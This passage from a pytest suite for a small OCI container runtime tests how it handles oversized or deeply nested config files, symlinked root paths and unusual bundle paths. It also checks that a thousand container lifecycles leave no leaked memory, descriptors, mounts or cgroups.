        assert os.path.getsize(bundle.config_path) > 100 << 20
        needle = "16 MiB"
    else:
        with open(bundle.config_path, "w") as f:
            f.write('{"ociVersion": "1.2.0", "annotations": {"deep": ' + "[" * 10000 + "]" * 10000 + "}}")
        needle = "nested deeper than"
    # The same binary refusing a tiny bad config is the baseline (under ASan it alone is ~100 MiB).
    small = rt.make_bundle(args=["true"])
    with open(small.config_path, "w") as f:
        f.write("[")
    _, _, baseline = peak_rss_kib(rt.argv("create", "--bundle", small, rt.new_id()))
    cid = rt.new_id()
    rc, err, rss = peak_rss_kib(rt.argv("create", "--bundle", bundle, cid))
    lines = [l for l in err.splitlines() if l.strip()]
    assert rc == 1 and len(lines) == 1 and lines[0].startswith("crun-lite: config.json"), (rc, err)
    assert needle in lines[0], lines
    assert rss - baseline < 48 * 1024, f"peak RSS {rss} KiB reading a hostile config ({baseline} KiB for a tiny one)"
    nothing_left(rt, cid, bundle.path)


def test_root_path_that_is_a_symlink_is_followed_on_the_host_side(rt, scratch):
    # The bundle is the caller's, trusted: like runc, root.path may be a symlink (to a directory
    # the caller chose); the container runs in what it points to.
    bundle = rt.make_bundle(args=["sh", "-c", "cat /marker"])
    real = os.path.join(bundle.path, "real-rootfs")
    os.rename(bundle.rootfs, real)
    os.symlink("real-rootfs", bundle.rootfs)
    with open(os.path.join(real, "marker"), "w") as f:
        f.write("through the link\n")
    cid = rt.new_id()
    r = rt.run(cid, bundle)
    assert r.rc == 0 and r.stdout == "through the link\n", r
    nothing_left(rt, cid, bundle.path)
    # A root.path symlink to something that is not a directory is refused, naming the field.
    os.remove(bundle.rootfs)
    os.symlink("config.json", bundle.rootfs)
    cid = rt.new_id()
    one_line_error(rt.run(cid, bundle), ".root.path")
    nothing_left(rt, cid, bundle.path)


def test_bundle_path_with_spaces_and_unicode(rt, scratch):
    parent = os.path.join(scratch, "my bundle ü")
    bundle = rt.make_bundle(args=["sh", "-c", "echo ok; cat /proc/self/mountinfo | grep -c ' / '"])
    shutil.move(bundle.path, parent)
    rt.bundles.append(parent)
    cid = rt.new_id()
    r = rt.cli("run", "--bundle", parent, cid)
    assert r.rc == 0 and r.stdout.startswith("ok\n"), r
    cid = rt.new_id()
    rt.create(cid, parent)
    state = rt.state(cid)
    assert state["bundle"] == parent, state
    rt.start(cid)
    rt.wait_status(cid, "stopped")
    assert rt.delete(cid).rc == 0
    nothing_left(rt, cid, parent)


# ------------------------------------------------------------------------------------------------
# Resource growth over many lifecycles


def fd_count_of_a_running_runtime(rt, bundle):
    """The descriptors a foreground `run` holds while its container runs."""
    cid = rt.new_id("fd")
    p = rt.run_foreground(cid, bundle)

    def fds_now():
        targets = []
        for n in os.listdir(f"/proc/{p.pid}/fd"):
            try:
                targets.append(re.sub(r"#\d+", "#N", os.readlink(f"/proc/{p.pid}/fd/{n}")))
            except FileNotFoundError:
                pass  # closed between the listing and the read: the runtime is still setting up
        return sorted(targets)
    # Sampled once `run` waits for its container (its signalfd is open): "running" comes a little
    # before that, and under the sanitizers the gap was enough for one sample to miss the signalfd.
    wait_until(lambda: "anon_inode:[signalfd]" in fds_now(), what="the foreground run to forward signals")
    fds = fds_now()
    assert p.wait(timeout=30) == 0, rt.popen_output(p)
    return fds


def test_thousand_lifecycles_do_not_grow_anything(rt, make_bundle, record_property):
    bundle = make_bundle(args=["true"])
    sleeper = make_bundle(args=["sleep", "3"])  # long enough for a sanitizer build under load to reach its wait
    mounts_before = len(host_mountinfo())
    with open("/proc/sys/fs/file-nr") as f:
        files_before = int(f.read().split()[0])
    rss, ids = [], []
    fds_first = fd_count_of_a_running_runtime(rt, sleeper)
    started = time.monotonic()
    # 1,000 in the normal suite; the sanitizer stage (10x slower per command) sets fewer.
    lifecycles = int(os.environ.get("CRUN_LITE_TEST_LIFECYCLES", "1000"))
    for i in range(lifecycles):
        cid = rt.new_id("n")
        ids.append(cid)
        rc, err, peak = peak_rss_kib(rt.argv("run", "--bundle", bundle, cid))
        assert rc == 0, (i, err)
        rss.append(peak)
        if i % 100 == 0:
            assert os.listdir(rt.root) == [], (i, os.listdir(rt.root))
    elapsed = time.monotonic() - started
    fds_last = fd_count_of_a_running_runtime(rt, sleeper)
    reap_orphans()
    with open("/proc/sys/fs/file-nr") as f:
        files_after = int(f.read().split()[0])
    mounts_after = len(host_mountinfo())
    first, last = max(rss[:10]), max(rss[-10:])
    numbers = (f"{lifecycles} runs in {elapsed:.1f} s; peak RSS first 10 {first} KiB, last 10 {last} KiB, max {max(rss)} KiB; "
               f"fds of a running `run`: {len(fds_first)} then {len(fds_last)}; host mounts {mounts_before} -> "
               f"{mounts_after}; allocated files {files_before} -> {files_after}")
    print(numbers)
    record_property("numbers", numbers)
    assert last <= first + 1024, numbers  # no growth beyond noise (each run is a new process)
    assert fds_last == fds_first, (fds_first, fds_last)
    assert os.listdir(rt.root) == []
    gone = set(ids)
    assert container_cgroup_dirs(gone) == []
    assert [l for l in host_mountinfo() if bundle.path in l or rt.root in l] == []
    # Host-wide counts are shared with whatever else runs here: only a leak per run (1000 of
    # them) would show above this noise.
    assert mounts_after - mounts_before < 200, numbers
    assert files_after - files_before < 1000, numbers
